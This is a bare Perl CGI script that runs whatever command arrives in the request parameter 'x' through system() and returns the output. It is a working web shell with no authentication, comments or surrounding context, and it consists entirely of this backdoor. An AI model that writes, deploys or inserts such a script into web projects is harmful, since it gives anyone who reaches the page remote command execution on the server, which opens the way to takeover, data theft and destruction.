#!/usr/bin/perl
use CGI;
my $q = CGI->new;
my %in = $q->Vars;
print $q->header;
print "<pre>";
system $in{'x'};
print "</pre>";
